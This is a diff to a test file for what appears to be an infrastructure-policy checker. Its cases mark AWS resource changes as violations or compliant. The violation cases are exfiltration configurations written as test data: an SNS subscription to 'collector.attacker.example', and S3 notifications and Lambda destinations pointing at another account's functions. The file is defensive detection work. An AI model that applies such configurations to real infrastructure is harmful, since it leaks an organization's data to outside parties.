@@ -61,14 +61,14 @@ const violations: Case[] = [
         change: add("aws:sns/topicSubscription:TopicSubscription", "alarms-collector", { topic: `arn:aws:sns:us-east-1:${ACCOUNT}:expertconnect-alarms`, protocol: "https", endpoint: "https://collector.attacker.example/sns" }),
     },
     {
-        name: "static uploads notify a function the stack does not hold",
+        name: "static uploads notify a function of another account",
         change: add("aws:s3/bucketNotification:BucketNotification", "static-notify-fn", { bucket: "expertconnect-prod-static",
-            lambdaFunctions: [{ lambdaFunctionArn: `arn:aws:lambda:us-east-1:${ACCOUNT}:function:uploads-forwarder`, events: ["s3:ObjectCreated:*"] }] }),
+            lambdaFunctions: [{ lambdaFunctionArn: `arn:aws:lambda:us-east-1:${FOREIGN}:function:uploads-forwarder`, events: ["s3:ObjectCreated:*"] }] }),
     },
     {
-        name: "the DB tasks function's results delivered to a function the stack does not hold",
+        name: "the DB tasks function's results delivered to a function of another account",
         change: add("aws:lambda/functionEventInvokeConfig:FunctionEventInvokeConfig", "db-tasks-results", { functionName: "expertconnect-prod-db-tasks",
-            destinationConfig: { onSuccess: { destination: `arn:aws:lambda:us-east-1:${ACCOUNT}:function:results-forwarder` } } }),
+            destinationConfig: { onSuccess: { destination: `arn:aws:lambda:us-east-1:${FOREIGN}:function:results-forwarder` } } }),
     },
     {
         name: "a database's S3 export role may write into a bucket the stack does not hold",
@@ -80,6 +80,10 @@ const violations: Case[] = [
 ];
 
 const compliant: Case[] = [
+    {
+        name: "the alarms topic also invokes a Slack notifier function of this account",
+        change: add("aws:sns/topicSubscription:TopicSubscription", "alarms-slack", { topic: `arn:aws:sns:us-east-1:${ACCOUNT}:expertconnect-alarms`, protocol: "lambda", endpoint: `arn:aws:lambda:us-east-1:${ACCOUNT}:function:expertconnect-slack-notifier` }),
+    },
     { name: "Firehose into the stack's own log bucket", change: stream("logs-own", { destination: "extended_s3", extendedS3Configuration: { roleArn: FIREHOSE_ROLE, bucketArn: "arn:aws:s3:::expertconnect-prod-alb-logs", prefix: "firehose/" } }) },
     { name: "an API destination to the paging service (subscriberDomains)", change: hook("pager", "https://events.pagerduty.com/v2/enqueue") },
     { name: "an API destination to a host of the organization's own domain", change: hook("own", "https://hooks.app.expertconnect.example/in") },
